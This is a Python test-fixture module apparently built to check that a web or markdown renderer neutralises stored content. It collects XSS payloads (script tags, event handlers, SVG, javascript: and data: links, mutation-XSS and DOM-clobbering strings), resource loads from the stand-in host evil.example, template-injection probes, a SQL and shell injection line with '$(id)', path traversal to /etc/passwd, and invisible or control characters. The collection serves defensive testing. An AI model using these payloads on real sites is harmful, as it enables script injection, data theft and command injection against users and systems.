r"""Texts that somebody could store to harm whoever reads them, and texts that are only difficult.

Whatever would be executed calls ``canary``, which the tests put into every page; whatever would be
fetched is at ``evil.example``. Characters that no eye sees are written as escapes here.
"""

from typing import Final

SCRIPTS: Final = (
    "<script>canary(1)</script>",
    "</script><script>canary(2)</script>",
    "<script src=//evil.example/a.js></script>",
    "<scr<script>ipt>canary(4)</scr</script>ipt>",
    "<SCRIPT type=module>canary(5)</SCRIPT>",
    "</title><script>canary(6)</script>",
    "</textarea><script>canary(7)</script>",
    "--><script>canary(8)</script><!--",
    "]]><script>canary(9)</script>",
    "<script>window.name='taken'</script>",
    '<iframe srcdoc="<script>parent.canary(11)</script>"></iframe>',
    "<template><script>canary(12)</script></template>",
)
HANDLERS: Final = (
    "<img src=x onerror=canary(20)>",
    '" onfocus="canary(21)" autofocus="',
    "' onmouseover='canary(22)' x='",
    "<body onload=canary(23)>",
    "<details open ontoggle=canary(24)>",
    "<input autofocus onfocus=canary(25)>",
    "<video><source onerror=canary(26)></video>",
    "<div onpointerenter=canary(27)>over</div>",
    "<p/onclick=canary(28)>press",
    '<dialog open onclose="canary(29)"></dialog>',
    "<style onload=canary(30)></style>",
    '"><marquee onstart=canary(31)>',
)
DRAWN: Final = (
    "<svg onload=canary(40)>",
    "<svg><script>canary(41)</script></svg>",
    '<svg><a href="javascript:canary(42)"><text y="20">press</text></a></svg>',
    "<svg><animate onbegin=canary(43) attributeName=x dur=1s>",
    '<svg><use href="//evil.example/a.svg#x"/></svg>',
    '<svg><foreignObject><iframe src="javascript:parent.canary(45)"></iframe></foreignObject></svg>',
)
LINKS: Final = (
    "[press](javascript:canary(50))",
    "[press](JaVaScRiPt:canary(51))",
    "[press](&#106;avascript:canary(52))",
    "[press](java\tscript:canary(53))",
    "[press](data:text/html,<script>canary(54)</script>)",
    "[press](vbscript:canary(55))",
    "<javascript:canary(56)>",
    "[press]: javascript:canary(57)\n\n[press]",
    '[press](https://evil.example/ "a title" onclick=canary(58))',
    '<a href="javascript:canary(59)">press</a>',
    "[press](//evil.example/without-a-scheme)",
    "[press](blob:https://evil.example/0)",
    "[press](file:///etc/passwd)",
)
FETCHED: Final = (
    "![picture](https://evil.example/picture.png)",
    "![picture](data:image/svg+xml,<svg/onload=canary(70)>)",
    '![x" onerror="canary(71)](x)',
    "<img src=https://evil.example/a.png>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import url(//evil.example/b.css)</style>",
    '<p style="background:url(//evil.example/c.png)">styled</p>',
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<form action=//evil.example/><button>Approve</button></form>",
    "<object data=//evil.example/o></object><embed src=//evil.example/e>",
    "<link rel=prefetch href=//evil.example/p>",
    "<audio src=//evil.example/a autoplay>",
)
TEMPLATES: Final = (
    "{{ 7 * 7 }} {{ config }} {{ ''.__class__.__mro__ }}",
    "{% include 'login.html' %}{# gone #}",
    "${7*7} #{7*7} <%= 7*7 %> {{{canary(80)}}}",
    "%(name)s {name} {0.__class__} %s %n",
)
ENTITIES: Final = (
    "&lt;script&gt;canary(90)&lt;/script&gt;",
    "&#60;img src=x onerror=canary(91)&#62;",
    "&amp;lt;b&amp;gt; &nbsp; &zwnj; &Tab; &NewLine;",
    "%3Cscript%3Ecanary(93)%3C/script%3E",
    "\\u003cscript\\u003ecanary(94)\\u003c/script\\u003e",
)
MUTATING: Final = (
    '<noscript><p title="</noscript><img src=x onerror=canary(100)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=canary(101)></style>",
    '<svg></p><style><a id="</style><img src=x onerror=canary(102)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=canary(103)>",
    "`<img src=x onerror=canary(104)>`` ` <img src=x onerror=canary(104)>",
    "<select><template><img src=x onerror=canary(105)></template></select>",
    "<p id=main><form id=decision><input name=csrf value=mine>",
    "<a id=nav name=nav href=#>clobber</a><img name=body><img name=getElementById>",
)
UNSEEN: Final = (
    "approve \u202eevorppa ton od\u202c this",
    "a\u2066b\u2067c\u2068d\u2069e",
    "pay\u200bload\u200e with\u2060 nothing\ufeff in it",
    "tags \U000e0041\U000e0042\U000e0043 hidden",
    "soft\xadhyphen and \u180e and \u3164 and \u115f",
    "lines\u2028and\u2029paragraphs",
    "colour \x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J",
    "bell \x07 backspace \x08\x08\x08 delete \x7f escape \x1b next \x85",
)
DIFFICULT: Final = (
    "\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd and \u0645\u0631\u062d\u0628\u0627 123 (abc)",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033da\u0346\u0365\u0366\u0301l\u0350\u035bgo\u0305\u030d "
    * 5,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f\u200d\U0001f308 \u0646\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "W" * 190,
    "null None undefined NaN true [object Object] -0 1e999",
    "'; DROP TABLE units; -- \" \\ ` \\' $(id) `id` | & ; \n\r\n\t",
    "../../../../etc/passwd\\..\\..\\x",
    "   \t  \n\n  ",
    "# A heading\n## of the page\n<h1>Inbox</h1>\n- [x] done\n\n***\n",
)
TOO_LONG_FOR_A_NAME: Final = (
    "> " * 400 + "deep",
    "- " * 300 + "deep",
    "[" * 500 + "x" + "](y)" * 500,
    "*" * 900 + "a" + "*" * 900,
    "`" * 700 + "a" + "`" * 699,
    "|a" * 400 + "|\n" + "|-" * 400 + "|\n",
    "<div>" * 500,
    "&" * 3_000,
    "!" + "[" * 600 + "](" * 600,
    "\\" * 2_001 + "<img src=x onerror=canary(200)>",
)

SHORT: Final = (
    *SCRIPTS, *HANDLERS, *DRAWN, *LINKS, *FETCHED, *TEMPLATES, *ENTITIES, *MUTATING, *UNSEEN,
    *DIFFICULT,
)  # fmt: skip
"""Short enough for any field."""

CORPUS: Final = (*SHORT, *TOO_LONG_FOR_A_NAME)

INVISIBLE: Final = (
    "\u202e\u202c\u2066\u2067\u2068\u2069\u200b\u200e\u2060\ufeff\U000e0041\xad\u180e\u3164\u115f"
    "\u2028\u2029\x1b\x07\x08\x7f\x85"
)
"""What must be on no page as it is."""
